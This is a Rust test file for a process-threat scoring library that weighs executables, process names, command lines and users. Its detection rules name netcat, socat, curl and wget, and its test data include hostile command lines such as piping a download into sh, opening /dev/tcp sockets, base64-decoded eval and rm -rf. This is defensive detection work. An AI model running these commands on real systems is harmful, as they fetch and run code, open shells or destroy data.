use suspicious_shell::process::{
    check_suspicious_action, command_line_rules, executable_rules, process_name_rules, user_rules,
};
use suspicious_shell::{
    check_suspicious_cmdline, check_suspicious_executable, check_suspicious_process_name,
    check_suspicious_user, detect_process_threat, ProcessEvent,
};

fn bare() -> ProcessEvent<'static> {
    ProcessEvent { executable: None, name: None, command_line: None, user: None, action: None }
}

#[test]
fn executable_shells_score_six() {
    assert_eq!(check_suspicious_executable("/bin/sh"), 6);
    assert_eq!(check_suspicious_executable("/bin/bash"), 6);
    assert_eq!(check_suspicious_executable("/usr/local/bin/bash"), 6);
}

#[test]
fn executable_interpreters_and_tools_score_four() {
    assert_eq!(check_suspicious_executable("/bin/zsh"), 4);
    assert_eq!(check_suspicious_executable("/bin/dash"), 4);
    assert_eq!(check_suspicious_executable("/usr/bin/python"), 4);
    assert_eq!(check_suspicious_executable("/usr/bin/python3"), 4);
    assert_eq!(check_suspicious_executable("/usr/bin/perl"), 4);
    assert_eq!(check_suspicious_executable("/usr/bin/ruby"), 4);
    assert_eq!(check_suspicious_executable("/usr/bin/nc"), 4);
    assert_eq!(check_suspicious_executable("/usr/bin/netcat"), 4);
    assert_eq!(check_suspicious_executable("/usr/bin/ncat"), 4);
    assert_eq!(check_suspicious_executable("/usr/bin/socat"), 4);
    assert_eq!(check_suspicious_executable("/usr/bin/wget"), 4);
    assert_eq!(check_suspicious_executable("/usr/bin/curl"), 4);
}

#[test]
fn executable_in_temporary_directory_scores_eight() {
    assert_eq!(check_suspicious_executable("/tmp/malware"), 8);
    assert_eq!(check_suspicious_executable("/var/tmp/dropper"), 8);
    assert_eq!(check_suspicious_executable("/opt/tmp/payload"), 8);
}

#[test]
fn executable_first_match_decides() {
    assert_eq!(check_suspicious_executable("/tmp/bin/sh"), 6);
    assert_eq!(check_suspicious_executable("/tmp/usr/bin/curl"), 4);
    assert_eq!(check_suspicious_executable("/bin/share/tool"), 6);
}

#[test]
fn executable_without_pattern_scores_zero() {
    assert_eq!(check_suspicious_executable("/usr/bin/ls"), 0);
    assert_eq!(check_suspicious_executable(""), 0);
    assert_eq!(check_suspicious_executable("tmp/"), 0);
    assert_eq!(check_suspicious_executable("/BIN/SH"), 0);
}

#[test]
fn process_name_is_matched_whole() {
    assert_eq!(check_suspicious_process_name("sh"), 5);
    assert_eq!(check_suspicious_process_name("bash"), 5);
    assert_eq!(check_suspicious_process_name("zsh"), 5);
    assert_eq!(check_suspicious_process_name("nc"), 7);
    assert_eq!(check_suspicious_process_name("netcat"), 7);
    assert_eq!(check_suspicious_process_name("ncat"), 7);
    assert_eq!(check_suspicious_process_name("socat"), 7);
    assert_eq!(check_suspicious_process_name("bash2"), 0);
    assert_eq!(check_suspicious_process_name("python3"), 0);
    assert_eq!(check_suspicious_process_name("Bash"), 0);
    assert_eq!(check_suspicious_process_name(""), 0);
    assert_eq!(check_suspicious_process_name("systemd"), 0);
}

#[test]
fn process_name_other_tools_score_three() {
    for name in [
        "dash", "python", "perl", "ruby", "php", "wget", "curl", "ftp", "tftp", "ssh", "scp", "rsync",
    ] {
        assert_eq!(check_suspicious_process_name(name), 3);
    }
}

#[test]
fn command_line_patterns_add_up() {
    assert_eq!(check_suspicious_cmdline("rm -rf /tmp && wget http://x"), 17);
    assert_eq!(check_suspicious_cmdline("bash -c 'curl http://x | sh'"), 11);
    assert_eq!(check_suspicious_cmdline("eval $(echo x | base64 -d)"), 12);
    assert_eq!(check_suspicious_cmdline("exec 5<>/dev/tcp/1.2.3.4/80"), 12);
    assert_eq!(check_suspicious_cmdline("nohup ./x &"), 7);
    assert_eq!(check_suspicious_cmdline("chmod +x a"), 6);
    assert_eq!(check_suspicious_cmdline("echo hi >> /var/log/x"), 3);
}

#[test]
fn command_line_single_patterns() {
    assert_eq!(check_suspicious_cmdline("-c"), 4);
    assert_eq!(check_suspicious_cmdline("--help"), -2);
    assert_eq!(check_suspicious_cmdline("rm -rf"), 8);
    assert_eq!(check_suspicious_cmdline("chmod +x"), 6);
    assert_eq!(check_suspicious_cmdline("wget http"), 5);
    assert_eq!(check_suspicious_cmdline("curl http"), 5);
    assert_eq!(check_suspicious_cmdline("/dev/tcp/"), 7);
    assert_eq!(check_suspicious_cmdline("base64"), 4);
    assert_eq!(check_suspicious_cmdline("eval"), 6);
    assert_eq!(check_suspicious_cmdline("exec"), 5);
    assert_eq!(check_suspicious_cmdline("nohup"), 4);
    assert_eq!(check_suspicious_cmdline("&"), 3);
    assert_eq!(check_suspicious_cmdline("|"), 2);
    assert_eq!(check_suspicious_cmdline(">>"), 3);
}

#[test]
fn command_line_help_lowers_the_score() {
    assert_eq!(check_suspicious_cmdline("ls --help"), -2);
    assert_eq!(check_suspicious_cmdline("bash -c --help"), 2);
}

#[test]
fn command_line_separators_are_counted() {
    assert_eq!(check_suspicious_cmdline("a;b;c"), 2);
    assert_eq!(check_suspicious_cmdline(";;;"), 3);
    assert_eq!(check_suspicious_cmdline("a && b || c"), 7);
    assert_eq!(check_suspicious_cmdline("&&"), 4);
    assert_eq!(check_suspicious_cmdline("&&&"), 4);
    assert_eq!(check_suspicious_cmdline("&&&&"), 5);
    assert_eq!(check_suspicious_cmdline("||"), 3);
    assert_eq!(check_suspicious_cmdline("||||"), 4);
}

#[test]
fn command_line_longer_than_200_characters_scores_three() {
    assert_eq!(check_suspicious_cmdline(&"a".repeat(200)), 0);
    assert_eq!(check_suspicious_cmdline(&"a".repeat(201)), 3);
    assert_eq!(check_suspicious_cmdline(&";".repeat(201)), 204);
}

#[test]
fn command_line_length_is_counted_in_characters() {
    assert_eq!(check_suspicious_cmdline(&"\u{e9}".repeat(150)), 0);
    assert_eq!(check_suspicious_cmdline(&"\u{e9}".repeat(201)), 3);
}

#[test]
fn command_line_without_pattern_scores_zero() {
    assert_eq!(check_suspicious_cmdline(""), 0);
    assert_eq!(check_suspicious_cmdline("ls -la /home"), 0);
}

#[test]
fn user_names() {
    assert_eq!(check_suspicious_user("root"), 3);
    assert_eq!(check_suspicious_user("nobody"), 2);
    assert_eq!(check_suspicious_user("www-data"), 2);
    assert_eq!(check_suspicious_user("alice"), 0);
    assert_eq!(check_suspicious_user("Root"), 0);
    assert_eq!(check_suspicious_user("rooty"), 0);
}

#[test]
fn user_of_digits_scores_four() {
    assert_eq!(check_suspicious_user("0"), 4);
    assert_eq!(check_suspicious_user("1000"), 4);
    assert_eq!(check_suspicious_user("0123456789"), 4);
    assert_eq!(check_suspicious_user(""), 4);
    assert_eq!(check_suspicious_user("10a"), 0);
    assert_eq!(check_suspicious_user("-1"), 0);
    assert_eq!(check_suspicious_user("1 000"), 0);
    assert_eq!(check_suspicious_user("\u{663}"), 0);
}

#[test]
fn action_suspicious_activity_scores_three() {
    assert_eq!(check_suspicious_action("suspicious_activity"), 3);
    assert_eq!(check_suspicious_action("suspicious_activity "), 0);
    assert_eq!(check_suspicious_action("exec"), 0);
    assert_eq!(check_suspicious_action(""), 0);
}

#[test]
fn process_event_with_only_bash_executable_scores_six() {
    let event = ProcessEvent { executable: Some("/bin/bash"), ..bare() };
    assert_eq!(detect_process_threat(&event), 6);
}

#[test]
fn process_event_with_only_executable_in_tmp_scores_eight() {
    let event = ProcessEvent { executable: Some("/tmp/x/binary"), ..bare() };
    assert_eq!(detect_process_threat(&event), 8);
}

#[test]
fn process_event_with_only_command_line_is_capped_at_ten() {
    let command_line = "rm -rf /tmp && wget http://x";
    assert_eq!(check_suspicious_cmdline(command_line), 17);
    let event = ProcessEvent { command_line: Some(command_line), ..bare() };
    assert_eq!(detect_process_threat(&event), 10);
}

#[test]
fn process_event_can_score_below_zero() {
    let event = ProcessEvent { command_line: Some("ls --help"), ..bare() };
    assert_eq!(detect_process_threat(&event), -2);
}

#[test]
fn process_event_without_fields_scores_zero() {
    assert_eq!(detect_process_threat(&bare()), 0);
}

#[test]
fn process_event_fields_add_up() {
    let event = ProcessEvent {
        executable: Some("/usr/bin/python3"),
        name: Some("python"),
        command_line: Some("--help"),
        user: Some("alice"),
        action: None,
    };
    assert_eq!(detect_process_threat(&event), 5);
    let event = ProcessEvent {
        executable: None,
        name: Some("ssh"),
        command_line: None,
        user: Some("root"),
        action: Some("suspicious_activity"),
    };
    assert_eq!(detect_process_threat(&event), 9);
    let event = ProcessEvent {
        executable: Some("/bin/bash"),
        name: Some("bash"),
        command_line: None,
        user: None,
        action: None,
    };
    assert_eq!(detect_process_threat(&event), 10);
    let event = ProcessEvent {
        executable: Some("/usr/bin/nc"),
        name: Some("dash"),
        command_line: None,
        user: Some("www-data"),
        action: Some("login"),
    };
    assert_eq!(detect_process_threat(&event), 9);
}

#[test]
fn process_event_is_never_above_ten() {
    let event = ProcessEvent {
        executable: Some("/tmp/sh"),
        name: Some("nc"),
        command_line: Some("nohup bash -c 'eval exec base64 | rm -rf / ; chmod +x a' >> b &"),
        user: Some("0"),
        action: Some("suspicious_activity"),
    };
    assert_eq!(detect_process_threat(&event), 10);
}

#[test]
fn process_tables_hold_the_rules_in_order() {
    let rules = executable_rules();
    assert_eq!(rules.len(), 15);
    assert_eq!((rules[0].pattern, rules[0].weight), ("/bin/sh", 6));
    assert_eq!((rules[13].pattern, rules[13].weight), ("/tmp/", 8));
    assert_eq!((rules[14].pattern, rules[14].weight), ("/var/tmp/", 8));
    let rules = process_name_rules();
    assert_eq!(rules.len(), 19);
    assert_eq!(rules.iter().filter(|rule| rule.weight == 5).count(), 3);
    assert_eq!(rules.iter().filter(|rule| rule.weight == 7).count(), 4);
    assert_eq!(rules.iter().filter(|rule| rule.weight == 3).count(), 12);
    let rules = command_line_rules();
    assert_eq!(rules.len(), 14);
    assert_eq!(rules.iter().map(|rule| rule.weight).sum::<i32>(), 60);
    assert_eq!((rules[1].pattern, rules[1].weight), ("--help", -2));
    let rules = user_rules();
    assert_eq!(rules.len(), 3);
}
